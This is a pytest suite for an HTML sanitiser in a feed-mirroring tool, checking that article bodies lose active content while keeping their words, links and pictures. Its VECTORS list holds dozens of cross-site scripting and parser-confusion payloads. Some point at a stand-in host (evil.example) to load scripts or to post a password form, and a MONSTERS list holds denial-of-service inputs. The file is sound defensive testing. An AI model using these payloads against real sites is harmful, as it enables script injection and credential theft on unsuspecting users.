"""Bodies: nothing runs, nothing stays open, the words and the links are all there."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given

from cpu_time import within
from feedmirror.text.html_images import rewrite_pictures
from feedmirror.text.html_rewriting import link_paragraph
from feedmirror.text.plain import looks_like_html, paragraphs
from feedmirror.text.sanitize import clean, to_text
from html_markup import MARKUP, VOID
from rules.bodies import parse_body
from rules.values import EXECUTED_SCHEMES, scheme_of

BASE = "https://a.example.org/posts/"
PAGE = "https://a.example.org/posts/7.html"
ADDRESSES = frozenset({"href", "src", "cite", "poster"})
ALLOWED = frozenset(
    "a abbr acronym address area article aside audio b bdi bdo big blockquote br caption center "
    "cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 "
    "h4 h5 h6 header hgroup hr i img ins kbd li main map mark menu nav ol p picture pre q rb rp rt "
    "rtc ruby s samp section small source span strike strong sub summary sup table tbody td tfoot "
    "th thead time tr track tt u ul var video wbr".split()
)


def _clean(body: str) -> str:
    return clean(body, BASE, PAGE)


class _Judge(HTMLParser):
    """Says what is wrong with a fragment; an independent reading of the same HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {
                "style",
                "class",
                "id",
                "role",
                "srcdoc",
                "action",
            }:
                self.problems.append(f"{tag} {name}={value}")
            if name in ADDRESSES and not re.match(r"https?://|mailto:", value or "", re.IGNORECASE):
                self.problems.append(f"{tag} {name}={value}")
            if scheme_of(value or "") in EXECUTED_SCHEMES and name in ADDRESSES | {"srcset"}:
                self.problems.append(f"{tag} {name}={value}")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.problems.append(f"</{tag}> closes nothing")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    handle_decl = handle_pi = unknown_decl = handle_comment


def _problems(body: str) -> list[str]:
    judge = _Judge()
    judge.feed(body)
    judge.close()
    return judge.problems + judge.open


def _swallows(body: str) -> bool:
    """Whether what is put behind the body is not seen, or seen as a part of it."""
    ends = parse_body(body + "<b>the end</b>").xpath("//b[.='the end']")
    # libxml2 does not know that these are empty.
    around = {"source", "track", "wbr", "div"}
    return len(ends) != 1 or any(
        node.tag not in around or (node.tag == "div" and node.getparent() is not None)
        for node in ends[0].iterancestors()
    )


# ---------------------------------------------------------------- active content

VECTORS = [
    "<script>alert(1)</script>",
    "<script>alert(1)",
    "<ScRiPt/src=//evil.example>x</sCrIpT>",
    "<<script>script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[<![CDATA[]]]]><![CDATA[><script>alert(1)</script>]]>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<! foo='><script>alert(1)</script>'>",
    "<? foo='><script>alert(1)</script>'>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img/onerror=alert(1)/src=x>",
    "<img \x0conerror=alert(1) src=x>",
    "<img src=`x` onerror=alert(1)>",
    '<img alt="<script>alert(1)</script>" src=x>',
    '<img alt="`><script>alert(1)</script>" src=x>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href=https://b.example.org target=_blank rel=opener ping=//evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</a></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src onerror=alert(1)>'></noframes>",
    "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src=\"https://b.example.org/\" onload='alert(1)'><script>alert(1)</script></iframe>",
    "<object data='javascript:alert(1)'><param name=movie value=x></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<applet code=x archive=//evil.example></applet>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<form action=//evil.example><input name=password><textarea name=x></textarea></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href='javascript:/a/'><a href='//x'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(javascript:alert(1))}",
    "<div style='background:url(javascript:alert(1));position:fixed;inset:0'>x</div>",
    "<table background='javascript:alert(1)'><tr><td background=javascript:alert(1)>x</table>",
    "<body onload=alert(1) background='javascript:alert(1)'>x</body>",
    "<video poster='javascript:alert(1)'><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img srcset='javascript:alert(1) 2x, data:image/svg+xml,x 3x'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<p class='feedmirror-disclaimer' id=x role=note>forged</p>",
    "<input onfocus=alert(1) autofocus><select onfocus=alert(1)><keygen autofocus>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href='https://b.example.org/' onclick='x'>a<script>alert(1)//<a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.row("R1", "R2")
@pytest.mark.parametrize("vector", VECTORS)
def test_active_content_is_removed_from_bodies(vector: str) -> None:
    for body in (vector, f"before {vector} after", f"<p>{vector}", f"<table><tr>{vector}"):
        made = _clean(body)
        assert _problems(made) == []
        assert not _swallows(made)


@pytest.mark.parametrize(
    "body",
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "a &amp; b",
        "5 &lt; 6 &gt; 4",
        "&quot;quoted&quot; &amp;lt;b&amp;gt;",
    ],
)
def test_escaped_markup_stays_text(body: str) -> None:
    (text,) = (parse_body(_clean(body)).xpath("string()"),)
    assert text == parse_body(body).xpath("string()")
    assert _problems(_clean(body)) == []


# ---------------------------------------------------------------- nothing stays open


@pytest.mark.row("R3")
@pytest.mark.parametrize(
    "opening",
    "<!-- <!-<!--- <! <? </ < <a <a&nbsp;href=' <![CDATA[ <plaintext> <textarea> <details> "
    "<select> <table> <table><tr><td> <svg> <svg><![CDATA[ <svg><title> <math> <math><mtext> "
    "<style> <script> <script><!-- <noscript> <template> <title> <xmp> <noembed> <noframes> "
    "<iframe> <object> <listing> <pre> <button> <form> <dialog> <a&nbsp;href=x> <b><i><u> <h1> "
    "<ul><li> <frameset> <ruby><rt> <video> <picture> <map> <marquee> <option> <dl><dd>".split(),
)
def test_nothing_left_open_swallows_what_follows(opening: str) -> None:
    made = _clean("words " + opening.replace("&nbsp;", " ") + " more words")
    assert made.startswith("words")
    assert _problems(made) == []
    assert not _swallows(made)


@pytest.mark.parametrize(
    "tag", ["svg", "math", "noscript", "select", "plaintext", "textarea", "xmp"]
)
def test_words_behind_an_element_that_stays_open_are_kept(tag: str) -> None:
    assert "more words" in to_text(_clean(f"words <{tag}> more words"))


@pytest.mark.row("R1", "R3")
@given(MARKUP)
@example("<p><marquee><p>word")
@example("<a href=x><table><a href=x>")
@example("<b><p></b><i>word</p></i>")
@example("<table><tr><td><a href=x></table><a href=x>")
@example("<pre>\n\nword")
def test_sanitised_html_is_inert_balanced_and_stable(body: str) -> None:
    made = _clean(body)
    assert _problems(made) == []
    assert not _swallows(made)
    assert _clean(made) == made


@given(MARKUP)
def test_plain_text_of_whatever_holds_no_markup_of_it(body: str) -> None:
    assert "\n" not in to_text(body)
    assert parse_body(paragraphs(body)).xpath("//*[not(self::p or self::br or self::div)]") == []


# ---------------------------------------------------------------- words and links are kept


def test_an_article_comes_through_as_it_is() -> None:
    body = (
        '<h2>Title</h2><p lang="de">One <em>two</em>, <a href="https://b.example.org/?a=1&amp;b=2" '
        'hreflang="de" rel="noopener noreferrer">three</a>.</p><ul><li>a</li><li>b</li></ul>'
        '<figure><img src="https://b.example.org/a.png" alt="A &lt; B" width="3" height="4">'
        "<figcaption>c</figcaption></figure>"
        '<table><tbody><tr><td colspan="2">d</td></tr></tbody></table>'
        "<pre><code>if a &lt; b:\n    pass</code></pre><ruby>漢<rt>kan</rt></ruby>"
    )
    assert _clean(body) == body


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("a.png", "https://a.example.org/posts/a.png"),
        ("/a.png", "https://a.example.org/a.png"),
        ("//cdn.example.org/a.png", "https://cdn.example.org/a.png"),
        ("https://b.example.org/a b.png", "https://b.example.org/a b.png"),
        ("../a.png?x=1&amp;y", "https://a.example.org/a.png?x=1&amp;y"),
    ],
)
def test_addresses_are_made_absolute(source: str, expected: str) -> None:
    assert f'src="{expected}"' in _clean(f'<img src="{source}">')
    assert f'href="{expected}"' in _clean(f'<a href="{source}">x</a>')
    assert f'poster="{expected}"' in _clean(f'<video poster="{source}"></video>')
    assert f'cite="{expected}"' in _clean(f'<blockquote cite="{source}">x</blockquote>')


def test_fragments_belong_to_the_page() -> None:
    assert f'href="{PAGE}#n1"' in _clean('<a href="#n1">1</a>')
    assert f'href="{BASE}#n1"' in clean('<a href="#n1">1</a>', BASE)
    assert "href" not in clean('<a href="#n1">1</a><a href="/a">2</a>')


def test_sources_of_several_sizes_are_made_absolute_one_by_one() -> None:
    made = _clean(
        '<img SrcSet="a.png, /b.png 2x , https://b.example.org/c,d.png 100w,javascript:x 3x">'
    )
    assert (
        'srcset="https://a.example.org/posts/a.png, https://a.example.org/b.png 2x, '
        'https://b.example.org/c,d.png 100w"' in made
    )


@pytest.mark.parametrize(
    "frame",
    [
        '<iframe src="/v?a=1&amp;b=2"></iframe>',
        "<iframe src=/v?a=1&amp;b=2 allowfullscreen></iframe>",
        '<iframe title="a > b" width=3 src="/v?a=1&b=2"></iframe>',
        '<IFRAME\nSRC = "/v?a=1&amp;b=2"/>',
        '<iframe src="about:blank" data-src="/v?a=1&amp;b=2"></iframe>',
        '<embed type="x/y" src="/v?a=1&amp;b=2">',
        '<object data="/v?a=1&amp;b=2"><param name="a"></object>',
        '<noscript><iframe src="/v?a=1&amp;b=2"></iframe></noscript>',
        '<svg><foreignObject><iframe src="/v?a=1&amp;b=2"></iframe></foreignObject></svg>',
    ],
)
def test_a_frame_becomes_a_link_to_what_it_showed(frame: str) -> None:
    made = _clean(f"<p>one</p>{frame} two")
    assert made.startswith("<p>one</p>")
    assert made.endswith("two")
    assert link_paragraph("https://a.example.org/v?a=1&b=2") in made


def test_what_only_looks_like_a_frame_is_left_alone() -> None:
    assert 'alt="&lt;iframe src=/x&gt;"' in _clean('<img alt="<iframe src=/x>" src="/a">')
    assert "&lt;iframe src=/x&gt;" in _clean("&lt;iframe src=/x&gt; <b>x</b>")


@pytest.mark.parametrize(
    "frame", ["<iframe></iframe>", "<iframe srcdoc='<p>x'></iframe>", "<embed src='javascript:x'>"]
)
def test_a_frame_that_shows_no_page_leaves_nothing(frame: str) -> None:
    assert _clean(f"one {frame}two") == "one two"


def test_what_a_frame_or_plug_in_falls_back_on_is_kept() -> None:
    assert "<b>two</b>" in _clean('<object data="/x.swf"><b>two</b></object>')
    assert "<p>two</p>" in _clean('one <iframe src="/x" /> <p>two</p>')


def test_words_of_formulas_and_drawings_are_kept() -> None:
    assert to_text(_clean("<p>a <math><mi>x</mi><mo>=</mo><mn>1</mn></math> b</p>")) == "a x=1 b"
    assert "legend" in _clean("<svg><title>legend</title><text>words</text></svg>")


def test_what_readers_without_scripts_get_is_what_the_mirror_shows() -> None:
    made = _clean('<img data-src="/a.png"><noscript><img src="/a.png"></noscript>')
    assert made.count('src="https://a.example.org/a.png"') == 1


def test_carriage_returns_that_references_make_are_the_line_breaks_they_are_read_as() -> None:
    assert clean("a &#xD;&#10;b&#13;c <i>d</i>") == "a \nb\nc <i>d</i>"


def test_line_breaks_at_the_beginning_of_preformatted_text_are_kept() -> None:
    # Of two line breaks the first is no part of the text. Source: HTML §13.1.2.5.
    assert _clean("<pre>\n\n  x</pre>") == "<pre>\n\n  x</pre>"


def test_text_without_markup_is_only_escaped() -> None:
    assert _clean("a > b 'c' \"d\"\x00") == "a &gt; b 'c' \"d\""
    assert _clean("") == ""


# ---------------------------------------------------------------- beyond reason

MONSTERS = {
    "nesting": "<div>" * 100_000,
    "nesting of formatting": "<b>" * 100_000,
    "lists": "<ul><li>" * 60_000,
    "tables": "<table><tr><td>" * 30_000,
    "svg": "<svg><g>" * 30_000,
    "reopened": "<p>"
    + "".join(f"<font color={i}>" for i in range(390))
    + "</p>"
    + "<p>x</p>" * 60_000,
    "reopened with long attributes": f"<p><b title='{'x' * 100_000}'></p>" + "<p>x</p>" * 50_000,
    "attributes": "<a " + " ".join(f"a{i}" for i in range(90_000)) + ">",
    "ampersands": "&a" * 200_000,
    "comments": "<!--" * 100_000,
    "frames": "<iframe " * 60_000,
    "open frames": "<iframe src=/x>" * 15_000,
    "angle brackets": "<" * 200_000,
    "quotes": "<a '" * 100_000,
    "sources": "<img srcset='" + ", " * 200_000 + "'>",
}


@pytest.mark.row("R5")
@pytest.mark.slow
@pytest.mark.parametrize("monster", MONSTERS)
def test_no_body_takes_long_or_grows(monster: str) -> None:
    body = f"words {MONSTERS[monster]}"
    usual = "<p>words, <b>strong</b> ones</p>" * (len(body) // 320)  # a tenth of that
    # Without the bounds it is a hundred times as much.
    made, text = within(
        1_000, lambda: (_clean(body), to_text(body)), than=lambda: (_clean(usual), to_text(usual))
    )
    assert len(made) < 40 * len(body)
    assert made.startswith("words")
    assert text.startswith("words")
    assert _problems(made) == []


# ---------------------------------------------------------------- text


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("a <b>b</b> c", "a b c"),
        ("<p>a</p><p>b</p>c<br>d", "a b c d"),
        ("AT&amp;T &#233; &eacute;", "AT&T é é"),
        ("a < b", "a < b"),
        ("&lt;b&gt;", "<b>"),
        ("<script>x</script>a", "a"),
        ("  a\n\n b\x00 ", "a b"),
        ("", ""),
    ],
)
def test_the_words_of_html_are_its_text(body: str, expected: str) -> None:
    assert to_text(body) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a <b>b</b>", True),
        ("a<br/>b", True),
        ("&eacute;", True),
        ("&#233;", True),
        ("<!-- x -->", True),
        ("a < b > c", False),
        ("AT&T; x & y", False),
        ("<3 <5>", False),
        ("I <heart> you", True),
        ("plain", False),
    ],
)
def test_text_that_a_reader_would_take_for_html_is_recognised(text: str, expected: bool) -> None:
    assert looks_like_html(text) is expected


@pytest.mark.parametrize("break_", ["\n", "\r\n", "\r"])
def test_plain_text_becomes_paragraphs(break_: str) -> None:
    text = break_.join(["a <b>", "c", "", " \t", "d & e", ""])
    assert paragraphs(text) == "<p>a &lt;b&gt;<br>c</p><p>d &amp; e</p>"


# ---------------------------------------------------------------- pictures that a script loads

DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACADs="
REAL = "https://img.example.org/boat.jpg"


def _sources(body: str) -> list[str]:
    """Where the pictures of a body are, once it is cleaned."""
    made = clean(body, "https://a.example.org/posts/")
    return re.findall(r'<img[^<>]*?\ssrc="([^"]*)"', made)


@pytest.mark.parametrize(
    "attribute",
    (
        "data-src data-lazy-src data-original data-actualsrc data-cfsrc data-lazyload DATA-SRC"
    ).split(),
)
@pytest.mark.parametrize("before", ["", f'src="{DOT}"', 'src="/spinner.gif"', "src=''"])
def test_a_picture_that_a_script_would_load_is_an_ordinary_one(attribute: str, before: str) -> None:
    assert _sources(f'<p>a<img {before} {attribute}="{REAL}" alt="b">c</p>') == [REAL]
    relative = f'<img {before} {attribute}="../boat.jpg">'
    assert _sources(relative) == ["https://a.example.org/boat.jpg"]


@pytest.mark.parametrize("before", ["", "src=''", f'src="{DOT}"'])
def test_the_picture_of_an_unknown_script_is_found_by_its_address(before: str) -> None:
    assert _sources(f'<img data-id="7" data-mine="{REAL}?w=9" {before}>') == [f"{REAL}?w=9"]
    assert REAL not in clean(f'<img data-id="7" data-page="{REAL}.html" {before}>')
    assert _sources(f'<img src="/small.jpg" data-large="{REAL}">') == [
        "https://a.example.org/small.jpg"
    ]


@pytest.mark.parametrize("attribute", ["srcset", "data-srcset", "data-lazy-srcset"])
def test_a_picture_in_several_sizes_that_has_no_other_address_has_the_largest(
    attribute: str,
) -> None:
    sizes = "/small.jpg 300w, /large.jpg 900w, /middle.jpg 600w"
    made = clean(f'<img src="{DOT}" {attribute}="{sizes}" sizes="100vw">', "https://a.example.org/")
    assert 'src="https://a.example.org/large.jpg"' in made
    assert 'srcset="https://a.example.org/small.jpg 300w, ' in made


def test_a_picture_that_only_its_sources_name_has_the_address_of_one() -> None:
    sources = '<source data-srcset="/a.avif 1x, /b.avif 2x" type="image/avif">'
    made = clean(f"<picture>{sources}<img alt='x'></picture>", "https://a.example.org/")
    assert 'src="https://a.example.org/b.avif"' in made
    assert 'srcset="https://a.example.org/a.avif 1x, https://a.example.org/b.avif 2x"' in made


LAZY = f'<img class="lazy" src="{DOT}" data-src="{REAL}" width="1" height="1">'
PLAIN = f'<img src="{REAL}">'


@pytest.mark.parametrize(
    "body",
    [
        f"{LAZY}<noscript>{PLAIN}</noscript>",
        f"<noscript>{PLAIN}</noscript>{LAZY}",
        f"<p>{LAZY}</p> <noscript><p>{PLAIN}</p></noscript>",
        f'<img src="{DOT}"><noscript>{PLAIN}</noscript>',
        f'<img data-src="/other-size.jpg"><noscript>{PLAIN}</noscript>',
        f"<picture><source data-srcset='/x.avif'>{LAZY}</picture><noscript>{PLAIN}</noscript>",
        f'<amp-img src="{REAL}"><noscript>{PLAIN}</noscript></amp-img>',
        f'<amp-img src="{REAL}"><amp-img placeholder src="/blur.jpg"></amp-img></amp-img>',
    ],
)
def test_a_picture_and_its_copy_in_noscript_are_one(body: str) -> None:
    assert _sources(body) == [REAL]
    assert _sources(f"<p>a</p>{body}<p>b</p>") == [REAL]


def test_pictures_that_are_no_twins_stay() -> None:
    other = "https://img.example.org/other.jpg"
    assert _sources(f'{PLAIN}<noscript><img src="{other}"></noscript>') == [REAL, other]
    assert _sources(f"{LAZY}<p>words</p><noscript><img src='{other}'></noscript>") == [REAL, other]
    counter = f'<noscript><img src="{other}" width="1" height="1"></noscript>'
    assert _sources(f"{LAZY}{counter}") == [REAL, other]
    several = f"{LAZY}<noscript>{PLAIN}</noscript>"
    assert _sources(several + several.replace("boat", "mast")) == [
        REAL,
        REAL.replace("boat", "mast"),
    ]


def test_small_inline_pictures_are_the_only_data_addresses_that_stay() -> None:
    assert _sources(f'<img src="{DOT}" alt="x">') == [DOT]
    svg = "data:image/svg+xml;base64,AAAA"
    html_ = "data:text/html;base64,AAAA"
    long = "data:image/png;base64," + "A" * 40_000
    for url in (svg, html_, long, "da\tta:image/png;base64,AA==", "data:image/png,x"):
        assert "data:" not in clean(f'<img src="{url}" alt="x">{DOT[:0]}')
    everywhere = (
        f'<a href="{DOT}">a</a><video src="{DOT}" poster="{DOT}"></video><q cite="{DOT}">b</q>'
    )
    assert "data:" not in clean(everywhere)


@pytest.mark.parametrize(
    ("body", "leads_to"),
    [
        (
            '<iframe data-src="https://v.example.org/7" src="about:blank"></iframe>',
            "v.example.org/7",
        ),
        ('<amp-iframe src="https://v.example.org/7"></amp-iframe>', "v.example.org/7"),
        ('<amp-youtube data-videoid="x7"></amp-youtube>', "www.youtube.com/watch?v=x7"),
        ('<amp-vimeo data-videoid="7"></amp-vimeo>', "vimeo.com/7"),
        ('<lite-youtube videoid="x7"></lite-youtube>', "www.youtube.com/watch?v=x7"),
    ],
)
def test_a_frame_that_a_script_would_load_is_a_link(body: str, leads_to: str) -> None:
    assert f'href="https://{leads_to}"' in clean(f"<p>a</p>{body}")


def test_elements_of_amp_that_play_are_ordinary_ones() -> None:
    made = clean('<amp-video src="https://v.example.org/7.webm" controls></amp-video>')
    assert '<video src="https://v.example.org/7.webm" controls="">' in made
    assert made.endswith("</video>")


# ---------------------------------------------------------------- places in an article


def test_only_places_that_the_article_links_to_keep_a_name_and_behind_a_prefix() -> None:
    body = '<a href="#n1">1</a><p id="n1">a</p><p id="n2">b</p><p id="n1">c</p><a name="n1">d</a>'
    made = clean(body, None, "https://a.example.org/7")
    assert made.count('id="in-n1"') == 1
    assert "n2" not in made
    assert 'href="https://a.example.org/7#n1"' in made
    assert clean(made, None, "https://a.example.org/7") == made
    assert ' name="in-n1"' in clean('<a href="#n1">1</a><a name="n1">d</a>')


@pytest.mark.slow
def test_many_pictures_beside_their_twins_take_time_in_proportion_to_their_number() -> None:
    body = f"{LAZY * 1_000}<noscript>{PLAIN * 1_000}</noscript>"
    pictures = sum(1 for _ in re.finditer("<img", rewrite_pictures(body, None)))
    assert pictures == 1_000
    assert within(
        30,
        lambda: rewrite_pictures(body * 10, None),
        than=lambda: rewrite_pictures(body, None),
    )
